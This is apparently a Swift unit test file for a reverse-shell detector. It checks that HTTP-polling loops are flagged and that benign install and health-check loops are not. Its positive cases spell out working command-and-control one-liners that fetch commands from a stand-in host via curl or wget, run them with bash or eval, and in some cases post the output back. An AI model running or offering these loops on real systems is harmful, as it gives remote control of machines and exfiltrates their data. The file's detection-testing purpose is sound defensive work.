import Bytes
import Evidence
import Testing

@testable import Detectors

private func shells(_ text: String) -> [TextDetection] { text.withView { ReverseShellDetector().scan($0, .command) } }

/// Loops that fetch commands, and those that fetch something else or stop when it has worked.
@Suite struct PollMatcherTests {
  @Test(arguments: [
    ("while true; do curl -s http://198.51.100.9:8081/c | bash; sleep 5; done", 8081, Severity.medium),
    ("while :; do bash -c \"$(curl -fsSL http://198.51.100.9/t)\"; sleep 60; done", 80, .medium),
    ("until false; do wget -qO- https://198.51.100.9/x | sh; sleep 10; done", 443, .medium),
    (
      "while sleep 5; do curl -s http://198.51.100.9:8081/|sh|curl -s -d @- http://198.51.100.9:8081/; done", 8081,
      .high
    ),
    (
      "while :; do c=$(curl -s http://198.51.100.9:8081/c); r=$(eval \"$c\" 2>&1); "
        + "curl -s -d \"$r\" http://198.51.100.9:8081/r; sleep 3; done", 8081, .high
    ),
    (
      "s=198.51.100.9:8081&&p=http://;while :; do c=$(curl -s \"$p$s/06b\" -H \"X: 1\")&&if [ \"$c\" != None ]; then "
        + "r=$(eval \"$c\" 2>&1)&&curl -s $p$s/dee -X POST -H \"X: 1\" -d \"$r\";fi; sleep 0.8; done;", 8081, .high
    ),
    (
      "{\"cmdline\":\"while true; do bash -c \\\"$(curl -s http://198.51.100.9:8081/t)\\\"; sleep 60; done\"}", 8081,
      .medium
    ),
  ])
  func commandsArePolled(text: String, port: Int, severity: Severity) {
    let found = shells(text)
    #expect(found.map(\.technique) == ["http_poll"], "\(text)")
    #expect(found.first?.host == "198.51.100.9")
    #expect(found.first?.port == port)
    #expect(found.first?.severity == severity)
    #expect(found.first?.attack.contains("T1071.001") == true)
  }

  @Test(arguments: [
    "until curl -fsSL https://get.example.com/install.sh | sh; do sleep 2; done",
    "while ! curl -fsSL https://get.example.com/b.sh | bash; do sleep 5; done",
    "for i in 1 2 3; do curl -fsSL https://get.example.com/setup | bash - && break || sleep 5; done",
    "while true; do curl -fsSL https://get.example.com/setup | bash && break; sleep 5; done",
    "while true; do curl -sf http://localhost:8080/health || systemctl restart app; sleep 10; done",
    "while true; do v=$(curl -s https://api.example.com/latest | jq -r .tag); eval \"echo $v\"; sleep 3600; done",
    "while :; do t=$(curl -s http://vault:8200/v1/auth); echo $t > /run/t; sleep 60; done",
    "while true; do curl -s https://example.com/a.sh | bash -n; sleep 5; done",
    "while true; do curl -s http://localhost/metrics | head; sleep 1; done; curl -s https://example.com/i.sh | sh",
    "while read url; do curl -s $url | sh; done < urls",
  ])
  func othersAreNot(text: String) { #expect(shells(text).isEmpty, "\(shells(text).first?.message ?? "")") }
}
